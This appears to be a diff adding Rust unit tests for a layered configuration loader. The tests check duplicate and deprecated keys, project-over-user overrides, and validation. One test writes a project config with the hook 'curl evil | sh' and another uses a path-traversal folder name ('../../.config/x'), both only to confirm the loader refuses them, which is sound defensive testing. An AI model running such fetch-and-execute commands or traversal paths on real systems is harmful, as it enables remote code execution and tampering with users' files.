+        let content = "batch_size = 10\nbatchsize = 5\n\n[similarity_config]\nmin_score = 0.5\n";
+        let (_, issues) = parse(content).unwrap();
+
+        let lines: Vec<_> = issues.iter().map(|i| i.line).collect();
+        assert_eq!(lines, vec![Some(2), Some(5)]);
+        assert!(issues[1].message.contains("similarity_config.min_score"));
+    }
+
+    #[test]
+    fn test_deprecated_keys_load_with_a_warning() {
+        let content = "[similarity_config]\nlevenshtein_threshold = 0.7\njaccard_threshold = 0.5\n\n[intelligent_config]\nsimilarity_threshold = 0.65\n";
+        let (config, issues) = parse(content).unwrap();
+        assert!(issues.is_empty(), "{:?}", issues);
+
+        let warnings: Vec<_> = config
+            .validate()
+            .into_iter()
+            .filter(|i| i.severity == Severity::Warning && i.message.contains("deprecated"))
+            .collect();
+        assert_eq!(warnings.len(), 3);
+    }
+
+    #[test]
+    fn test_project_config_overrides_user_config() {
+        let root = tempfile::tempdir().unwrap();
+        let user = root.path().join("user.toml");
+        let project = root.path().join("share");
+        let nested = project.join("inbox");
+        fs::create_dir_all(&nested).unwrap();
+
+        fs::write(
+            &user,
+            "batch_size = 10\n[categories.images]\nextensions = [\"jpg\"]\nfolder_name = \"Images\"\n",
+        )
+        .unwrap();
+        fs::write(
+            project.join(PROJECT_CONFIG_NAME),
+            "batch_size = 20\n[categories.images]\nfolder_name = \"Photos\"\n",
+        )
+        .unwrap();
+        fs::write(nested.join(PROJECT_CONFIG_NAME), "batch_size = 30\n").unwrap();
+
+        let loaded = load(Some(&user), Some(&nested));
+
+        assert_eq!(loaded.layers.len(), 3);
+        assert_eq!(loaded.config.batch_size, 30);
+        let images = &loaded.config.categories["images"];
+        assert_eq!(images.extensions, vec!["jpg"]);
+        assert_eq!(images.folder_name.as_deref(), Some("Photos"));
+    }
+
+    #[test]
+    fn test_project_config_cannot_set_commands() {
+        let root = tempfile::tempdir().unwrap();
+        let user = root.path().join("user.toml");
+        fs::write(&user, "[hooks]\npost_run = \"notify-send done\"\n").unwrap();
+        fs::write(
+            root.path().join(PROJECT_CONFIG_NAME),
+            "batch_size = 20\nlog_file = \"/tmp/x.log\"\n\n[hooks]\npre_run = \"curl evil | sh\"\n\n[plugin_config]\ncommand = [\"./classify\"]\n",
+        )
+        .unwrap();
+
+        let loaded = load(Some(&user), Some(root.path()));
+        assert_eq!(loaded.config.batch_size, 20);
+        assert_eq!(loaded.config.hooks.pre_run, "");
+        assert_eq!(loaded.config.hooks.post_run, "notify-send done");
+        assert_eq!(loaded.config.plugin_config, PluginConfig::default());
+        assert!(loaded.has_errors());
+        let refused: Vec<_> = loaded
+            .issues
+            .iter()
+            .filter(|i| i.message.contains("not allowed"))
+            .map(|i| i.line)
+            .collect();
+        assert_eq!(refused, vec![Some(2), Some(4), Some(7)]);
+    }
+
+    #[test]
+    fn test_validation_catches_bad_values() {
+        let content = r#"
+[similarity_config]
+levenshtein_weight = 0.9
+jaccard_weight = 0.4
+
+[categories.a]
+extensions = ["jpg"]
+
+[categories.b]
+extensions = ["JPG"]
+
+[categories.c]
+extensions = ["png"]
+folder_name = "../../.config/x"
+
+[categories.d]
+extensions = ["gif"]
+folder_name = "/tmp/gifs"
+"#;
+        let (config, _) = parse(content).unwrap();
+        let issues = config.validate();
+
+        assert!(issues
+            .iter()
+            .any(|i| i.severity == Severity::Error && i.message.contains("add up to 1.0")));
+        assert!(issues
+            .iter()
+            .any(|i| i.severity == Severity::Warning && i.message.contains("'jpg'")));
+        for key in ["c", "d"] {
+            let prefix = format!("categories.{}.folder_name", key);
+            assert!(issues
+                .iter()
+                .any(|i| i.severity == Severity::Error && i.message.starts_with(&prefix)));
+        }
+    }
+}